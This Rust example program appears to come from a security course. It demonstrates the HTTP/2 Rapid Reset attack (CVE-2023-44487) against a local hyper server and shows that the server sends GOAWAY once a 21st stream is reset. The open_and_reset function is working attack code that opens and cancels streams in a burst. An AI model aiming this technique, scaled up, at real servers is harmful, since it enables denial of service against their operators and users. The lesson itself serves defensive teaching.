//! Rapid Reset (CVE-2023-44487) against a hyper HTTP/2 server with its defaults, bounded: a raw
//! `h2` client opens streams and resets each one at once, 20 on a first connection and 21 on a
//! second. h2 tolerates 20 streams reset before hyper accepted them; the 21st costs the
//! connection a GOAWAY with ENHANCE_YOUR_CALM.
//!
//! Run: `cargo run -p lessons-senior --example http2_rapid_reset`

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use bytes::Bytes;
use http_body_util::Full;
use hyper::body::Incoming;
use hyper::{Request, Response};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::net::{TcpListener, TcpStream};

// ANCHOR: attack
/// Opens `n` streams and resets each one at once, the way a Rapid Reset client does. Called
/// before the client's connection task first runs, so h2 writes all the frames in one burst
/// and the server reads each HEADERS together with its RST_STREAM.
pub fn open_and_reset(client: &h2::client::SendRequest<Bytes>, n: usize) {
    for _ in 0..n {
        let request = Request::get("http://workshop.test/").body(()).unwrap();
        // A clone per stream: one `SendRequest` may hold only one stream not yet written.
        let (_response, mut body) = client
            .clone()
            .send_request(request, false)
            .expect("h2 queues the stream");
        body.send_reset(h2::Reason::CANCEL);
    }
}
// ANCHOR_END: attack

/// One connection: `n` streams opened and reset, then one ordinary request, all in one
/// burst. Returns what became of the ordinary request.
async fn attack(address: SocketAddr, n: usize) -> String {
    let tcp = TcpStream::connect(address).await.unwrap();
    let (client, connection) = h2::client::handshake(tcp).await.unwrap();
    open_and_reset(&client, n);
    let request = Request::get("http://workshop.test/").body(()).unwrap();
    let (response, _) = client.clone().send_request(request, true).unwrap();
    let connection = tokio::spawn(connection);
    match response.await {
        Ok(response) => format!("the next request is answered {}", response.status()),
        Err(_) => match connection.await.unwrap() {
            Err(closed) if closed.is_go_away() => {
                format!("the server sent GOAWAY {:?}", closed.reason().unwrap())
            }
            other => format!("the connection ended: {other:?}"),
        },
    }
}

#[tokio::main]
async fn main() {
    tracing_subscriber::fmt()
        .without_time()
        .with_target(false)
        .init();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let calls = Arc::new(AtomicUsize::new(0));
    let service_calls = calls.clone();
    tokio::spawn(async move {
        loop {
            let (tcp, _) = listener.accept().await.unwrap();
            let calls = service_calls.clone();
            let service = hyper::service::service_fn(move |_: Request<Incoming>| {
                calls.fetch_add(1, Ordering::SeqCst);
                async { Ok::<_, Infallible>(Response::new(Full::new(Bytes::from("hello\n")))) }
            });
            tokio::spawn(
                hyper::server::conn::http2::Builder::new(TokioExecutor::new())
                    .serve_connection(TokioIo::new(tcp), service),
            );
        }
    });

    for n in [20, 21] {
        let outcome = attack(address, n).await;
        println!("{n} streams opened and reset at once: {outcome}");
    }
    // The 20 reset streams still reached the service, as did the one ordinary request.
    println!(
        "the service was called {} times",
        calls.load(Ordering::SeqCst)
    );
}
